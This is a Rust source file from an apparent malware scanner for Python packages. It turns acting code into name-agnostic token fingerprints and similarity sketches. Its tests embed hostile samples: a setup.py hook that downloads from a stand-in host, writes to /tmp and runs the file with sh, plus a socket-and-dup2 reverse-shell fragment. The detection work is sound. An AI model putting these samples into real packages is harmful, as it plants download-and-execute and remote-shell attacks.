//! Code without what its maker chooses freely: the tokens of what acts, with names, texts and
//! numbers as places, so that two copies which differ in those alone are equal.

use std::borrow::Cow;

use fondaco_pydist::Sha256;
use fondaco_verdict::{MAX_SHAPES, SKETCH, Shape, Sketch, Trigger};
use ruff_python_ast::token::{Token, TokenKind};
use ruff_python_parser::{Mode, ParseOptions};
use ruff_text_size::Ranged;

use crate::analysis::{Call, Role, Unit};
use crate::{Api, Language, precheck};

/// Text of one unit that is read, in bytes.
const MAX_TEXT: usize = 512 << 10;
/// Text that is read in all, in bytes.
pub(crate) const MAX_ALL: usize = 2 << 20;
/// Tokens of a shape; what stands behind them is left out.
const MAX_TOKENS: usize = 20_000;
/// Less code than this looks alike everywhere, in tokens.
const FEWEST: usize = 16;
/// Tokens in a piece that is compared.
const PIECE: usize = 4;

/// Names that no maker can choose: what they do is theirs.
const FIXED: [&str; 24] = [
    "exec",
    "eval",
    "compile",
    "__import__",
    "getattr",
    "setattr",
    "globals",
    "locals",
    "vars",
    "open",
    "chr",
    "ord",
    "bytes",
    "bytearray",
    "map",
    "filter",
    "zip",
    "print",
    "range",
    "len",
    "str",
    "int",
    "type",
    "super",
];

/// A token: what it is, and where it stands, in bytes.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Lexeme {
    kind: TokenKind,
    start: u32,
    end: u32,
}

impl Lexeme {
    fn of(token: &Token) -> Self {
        Self { kind: token.kind(), start: token.start().into(), end: token.end().into() }
    }
}

/// The tokens of a unit, where its shape may be asked for: they were read once, when it was parsed.
pub(crate) fn lexemes(unit: &Unit, text: &str, tokens: &[Token]) -> Option<Box<[Lexeme]>> {
    let may_be_asked = text.len() <= MAX_TEXT && (unit.layer > 0 || unit.calls.iter().any(acts));
    may_be_asked.then(|| tokens.iter().map(Lexeme::of).collect())
}

/// The shapes of the code that acts: layers and what runs unasked first, then by size. Where all of it is
/// too little to say anything, what stands around it belongs to it: who needs one line has it among others.
pub fn shapes(units: &[Unit]) -> Vec<Shape> {
    let found = shapes_of(units, false);
    if found.is_empty() { shapes_of(units, true) } else { found }
}

/// The same, with or without what stands around what acts.
fn shapes_of(units: &[Unit], with_around: bool) -> Vec<Shape> {
    let mut left = MAX_ALL;
    let mut found: Vec<(u8, Block<'_>)> = Vec::new();
    let mut ranked: Vec<(u8, &Unit)> = units.iter().filter_map(|unit| Some((rank(unit)?, unit))).collect();
    if with_around {
        // Nothing stands around what acts in the others.
        ranked.retain(|(_, unit)| unit.trigger.is_some_and(Trigger::is_unasked));
    }
    ranked.sort_by_key(|(rank, unit)| (*rank, unit.layer));
    for (rank, unit) in ranked {
        if unit.text.len() > MAX_TEXT || unit.text.len() > left {
            continue;
        }
        left -= unit.text.len();
        let blocks = acting_blocks(unit, with_around).into_iter();
        found.extend(blocks.filter(|tokens| tokens.len() >= FEWEST).map(|tokens| (rank, Block::of(tokens))));
        if found.len() >= MAX_SHAPES * 4 {
            break;
        }
    }
    found.sort_by_key(|(rank, block)| (*rank, std::cmp::Reverse(block.tokens.len()), block.exact));
    found.dedup_by_key(|(_, block)| block.exact);
    found.iter().take(MAX_SHAPES).map(|(_, block)| block.shape()).collect()
}

/// How telling the code of a unit is, lowest first; `None` for what does nothing.
fn rank(unit: &Unit) -> Option<u8> {
    let acts = unit.calls.iter().any(acts);
    let is_python = unit.language == Language::Python && !unit.text.is_empty();
    match unit.trigger {
        _ if !is_python => None,
        _ if unit.layer > 0 => Some(0),
        Some(trigger) if trigger.is_unasked() && acts => Some(1),
        _ if acts && unit.role != Role::Other => Some(2),
        _ => None,
    }
}

fn acts(call: &Call) -> bool {
    matches!(
        call.api,
        Some(
            Api::CodeExec
                | Api::Shell
                | Api::NetworkFetch
                | Api::NetworkSend
                | Api::Socket
                | Api::Decode(_)
                | Api::Decrypt
                | Api::FileWrite
                | Api::HostFact
                | Api::Surveillance
                | Api::Native
                | Api::Registry
                | Api::DynamicImport
                | Api::BrowserSecret
                | Api::Duplicate
                | Api::Unpickle
        )
    )
}

/// Top-level pieces of a unit: definitions that act, each for itself, and what acts between them, with all
/// that stands between them if it runs unasked and that is wanted. A layer is one piece.
fn acting_blocks<'u>(unit: &'u Unit, with_around: bool) -> Vec<Vec<Cow<'u, str>>> {
    let text: &'u str = &unit.text;
    let tokens = match &unit.tokens {
        Some(known) => Cow::Borrowed(known.as_ref()),
        None if precheck::too_deep(text).is_some() || precheck::too_much(text).is_some() => {
            return Vec::new();
        }
        None => {
            let parsed = ruff_python_parser::parse_unchecked(text, ParseOptions::from(Mode::Module));
            Cow::Owned(parsed.tokens().iter().map(Lexeme::of).collect())
        }
    };
    let mut acting: Vec<u32> = unit.calls.iter().filter(|call| acts(call)).map(|call| call.line).collect();
    acting.sort_unstable();
    let mut reader = Reader::new(text);
    let mut blocks: Vec<Vec<Cow<'u, str>>> = Vec::new();
    let mut between: Vec<Cow<'u, str>> = Vec::new();
    let is_whole = unit.layer > 0 || with_around && unit.trigger.is_some_and(Trigger::is_unasked);
    let mut sort = |statement: Statement<'u>| {
        let from = acting.partition_point(|line| *line < statement.first_line);
        let does = acting.get(from).is_some_and(|line| *line <= statement.last_line);
        if (is_whole || does) && (unit.layer > 0 || !statement.is_definition) {
            between.extend(statement.tokens);
        } else if does {
            blocks.push(statement.tokens);
        }
    };
    // What follows that does nothing.
    let last_act = acting.last().copied().unwrap_or_default();
    let mut is_over = false;
    for token in tokens.iter().filter(|token| token.kind != TokenKind::EndOfFile) {
        reader.token(token.kind, token.start as usize, token.end as usize);
        let Some(statement) = reader.done.take() else { continue };
        is_over = !is_whole && statement.last_line >= last_act;
        sort(statement);
        if is_over {
            break;
        }
    }
    if !is_over {
        reader.finish();
        reader.done.take().into_iter().for_each(&mut sort);
    }
    blocks.push(between);
    blocks
}

/// One top-level statement.
struct Statement<'t> {
    tokens: Vec<Cow<'t, str>>,
    first_line: u32,
    last_line: u32,
    is_definition: bool,
}

/// Puts tokens together to top-level statements.
struct Reader<'t> {
    text: &'t str,
    /// How far lines were counted, and how many.
    counted: (usize, u32),
    tokens: Vec<Cow<'t, str>>,
    /// Where the logical line at hand begins in `tokens`.
    line_start: usize,
    /// Where the statement begins.
    first: Option<usize>,
    /// Where its last token does.
    last: usize,
    depth: usize,
    /// Within an f-string, how deep.
    interpolated: usize,
    is_import: bool,
    after_dot: bool,
    /// A logical line at the top level has ended: what comes next tells whether its block has.
    ended: bool,
    /// The statement that ended before the token at hand.
    done: Option<Statement<'t>>,
    is_definition: bool,
}

impl<'t> Reader<'t> {
    fn new(text: &'t str) -> Self {
        Self {
            text,
            counted: (0, 1),
            tokens: Vec::new(),
            line_start: 0,
            first: None,
            last: 0,
            depth: 0,
            interpolated: 0,
            is_import: false,
            after_dot: false,
            ended: false,
            done: None,
            is_definition: false,
        }
    }

    fn line_at(&mut self, offset: usize) -> u32 {
        let (from, lines) = self.counted;
        let passed = self.text.as_bytes().get(from..offset).unwrap_or_default();
        let lines = lines + passed.iter().filter(|byte| **byte == b'\n').count() as u32;
        self.counted = (offset.max(from), lines);
        lines
    }

    fn token(&mut self, kind: TokenKind, start: usize, end: usize) {
        match kind {
            TokenKind::Comment | TokenKind::NonLogicalNewline => return,
            TokenKind::Indent => {
                self.depth += 1;
                self.ended = false;
                self.push("{".into());
                return;
            }
            TokenKind::Dedent => {
                self.depth = self.depth.saturating_sub(1);
                self.push("}".into());
                self.ended = self.depth == 0;
                return;
            }
            _ => {}
        }
        // `else`, `except` and the like go on with the block before them.
        let goes_on =
            matches!(kind, TokenKind::Else | TokenKind::Elif | TokenKind::Except | TokenKind::Finally);
        if self.ended && !goes_on {
            self.finish();
        }
        self.ended = false;
        if kind == TokenKind::Newline {
            self.end_line();
            return;
        }
        self.last = start;
        if self.first.is_none() {
            self.first = Some(start);
            self.is_definition =
                matches!(kind, TokenKind::Def | TokenKind::Class | TokenKind::Async | TokenKind::At);
        }
        if self.tokens.len() == self.line_start {
            self.is_import = matches!(kind, TokenKind::Import | TokenKind::From);
        }
        self.emit(kind, start, end);
    }

    fn emit(&mut self, kind: TokenKind, start: usize, end: usize) {
        match kind {
            TokenKind::FStringStart | TokenKind::TStringStart => {
                self.interpolated += 1;
                self.value("s");
            }
            TokenKind::FStringEnd | TokenKind::TStringEnd => {
                self.interpolated = self.interpolated.saturating_sub(1);
            }
            _ if self.interpolated > 0 => {}
            TokenKind::String => self.value("s"),
            TokenKind::Int | TokenKind::Float | TokenKind::Complex => self.value("0"),
            TokenKind::Name => {
                let name = self.text.get(start..end).unwrap_or_default();
                let is_alias = self.tokens.last().is_some_and(|last| last == "as");
                let keeps = (self.is_import && !is_alias) || self.after_dot || FIXED.contains(&name);
                self.push(if keeps { name.into() } else { "n".into() });
            }
            _ => self.push(self.text.get(start..end).unwrap_or_default().into()),
        }
        self.after_dot = kind == TokenKind::Dot;
    }

    /// A text or a number; a run of them, added up or listed, is one.
    fn value(&mut self, place: &'static str) {
        let (last, before) = (self.tokens.len().checked_sub(1), self.tokens.len().checked_sub(2));
        let at = |at: Option<usize>| at.and_then(|at| self.tokens.get(at)).map(AsRef::as_ref);
        if at(last) == Some(place) {
            return;
        }
        if at(before) == Some(place) && matches!(at(last), Some("+" | ",")) {
            self.tokens.pop();
            return;
        }
        self.push(place.into());
    }

    fn push(&mut self, token: Cow<'t, str>) {
        if self.tokens.len() < MAX_TOKENS {
            self.tokens.push(token);
        }
    }

    fn end_line(&mut self) {
        // A text that stands alone says something to people.
        if self.tokens.get(self.line_start..).is_some_and(|line| line == ["s"]) {
            self.tokens.truncate(self.line_start);
        } else {
            self.push(";".into());
        }
        self.line_start = self.tokens.len();
        self.ended = self.depth == 0;
    }

    fn finish(&mut self) {
        let tokens = std::mem::take(&mut self.tokens);
        self.line_start = 0;
        let first = self.first.take().unwrap_or(self.last);
        let (first_line, last_line) = (self.line_at(first), self.line_at(self.last));
        self.done = Some(Statement { tokens, first_line, last_line, is_definition: self.is_definition });
    }
}

/// The tokens of code that acts, and what tells them from all others.
struct Block<'t> {
    tokens: Vec<Cow<'t, str>>,
    exact: u64,
}

impl<'t> Block<'t> {
    fn of(tokens: Vec<Cow<'t, str>>) -> Self {
        let mut text = String::with_capacity(tokens.len() * 3);
        for token in &tokens {
            text.push_str(token);
            text.push('\n');
        }
        let digest = Sha256::of(text.as_bytes());
        let exact = digest.as_bytes().iter().take(8).fold(0, |all, byte| all << 8 | u64::from(*byte));
        Self { tokens, exact }
    }

    fn shape(&self) -> Shape {
        let hashes: Vec<u64> = self.tokens.iter().map(|token| hash(token.as_bytes())).collect();
        let mut least = [u64::MAX; SKETCH];
        for piece in hashes.windows(PIECE) {
            let whole = piece.iter().fold(0, |all, token| mixed(all ^ token));
            for (seed, value) in (1u64..).zip(&mut least) {
                *value = (*value).min(mixed(whole ^ seed.wrapping_mul(0x9e37_79b9_7f4a_7c15)));
            }
        }
        let sketch = Sketch(least.map(|value| value as u16));
        Shape { tokens: u32::try_from(self.tokens.len()).unwrap_or(u32::MAX), exact: self.exact, sketch }
    }
}

/// FNV-1a. Whoever makes two pieces collide makes shapes that are alike, which a copy does more simply.
fn hash(bytes: &[u8]) -> u64 {
    bytes
        .iter()
        .fold(0xcbf2_9ce4_8422_2325, |all, byte| (all ^ u64::from(*byte)).wrapping_mul(0x100_0000_01b3))
}

/// The finaliser of SplitMix64.
fn mixed(mut value: u64) -> u64 {
    value = (value ^ (value >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    value = (value ^ (value >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    value ^ (value >> 31)
}

#[cfg(test)]
mod tests {
    use fondaco_pydist::MemberPath;

    use super::*;
    use crate::{Budget, Form, SourceFile, analyse};

    fn of_source(source: &str) -> Vec<Shape> {
        let path: MemberPath = "x-1/setup.py".parse().unwrap();
        let file = SourceFile {
            path: &path,
            bytes: source.as_bytes(),
            form: Form::Source,
            role: Role::Setup,
            module: "setup",
        };
        shapes(&analyse(&[file], &crate::EntryPoints::default(), &Budget::default()).units)
    }

    const HOOK: &str = "import os, urllib.request\nfrom setuptools import setup\n\
        class Hook:\n    def run(self):\n        body = urllib.request.urlopen('http://a.example/x').read()\n        \
        with open('/tmp/x', 'wb') as out:\n            out.write(body)\n        os.system('sh /tmp/x')\n\
        setup(name='x', version='1')\n";

    #[test]
    fn names_texts_and_comments_are_not_looked_at() {
        let renamed = HOOK
            .replace("body", "stuff")
            .replace("Hook", "Other")
            .replace("out", "handle")
            .replace("http://a.example/x", "http://b.example/' + 'y")
            .replace("class", "# by me\nclass")
            .replace("name='x'", "name='another', author='somebody'");
        let (one, other) = (of_source(HOOK), of_source(&renamed));
        assert_eq!(one.len(), 1, "setup() does not act: {one:?}");
        assert_eq!(one, other);
        let called = HOOK.replace("os.system", "os.startfile");
        assert_ne!(one[0].exact, of_source(&called)[0].exact, "what is called is no free choice");
    }

    #[test]
    fn a_changed_part_leaves_the_rest_alike() {
        let more = HOOK
            .replace("        os.system", "        for i in range(3):\n            pass\n        os.system");
        let (one, other) = (&of_source(HOOK)[0], &of_source(&more)[0]);
        assert_ne!(one.exact, other.exact);
        assert!(one.sketch.similarity(&other.sketch) > 0.5);
        let else_ = "import socket, os\ns = socket.socket()\ns.connect(('a', 1))\nos.dup2(s.fileno(), 0)\n";
        assert!(one.sketch.similarity(&of_source(else_)[0].sketch) < 0.2);
    }

    #[test]
    fn one_line_that_acts_has_what_stands_around_it() {
        let one = |name: &str, number: u32| {
            format!(
                "import os, time\n{name} = [x ^ {number} for x in range({number})]\ntime.sleep({number})\n\
                 os.system('curl {name}')\n{name} = len('{name}') % {number}\n"
            )
        };
        let (a, b) = (of_source(&one("alpha", 3)), of_source(&one("beta", 77)));
        assert_eq!(a.len(), 1);
        assert_eq!(a[0].exact, b[0].exact);
        // Where what acts is enough, nothing else belongs to it.
        let more = "import os\nfor x in range(3):\n    os.system('a' + str(x) + 'b' + str(x))\n    os.system('c' + str(x))\n";
        let with = format!("{more}y = [z for z in range(9)]\n");
        assert_eq!(of_source(more)[0].exact, of_source(&with)[0].exact);
    }

    #[test]
    fn what_does_nothing_has_no_shape() {
        assert!(of_source("from setuptools import setup\nsetup(name='x', version='1')\n").is_empty());
        assert!(of_source("def broken(:\n  ( 'x\n").is_empty());
    }
}
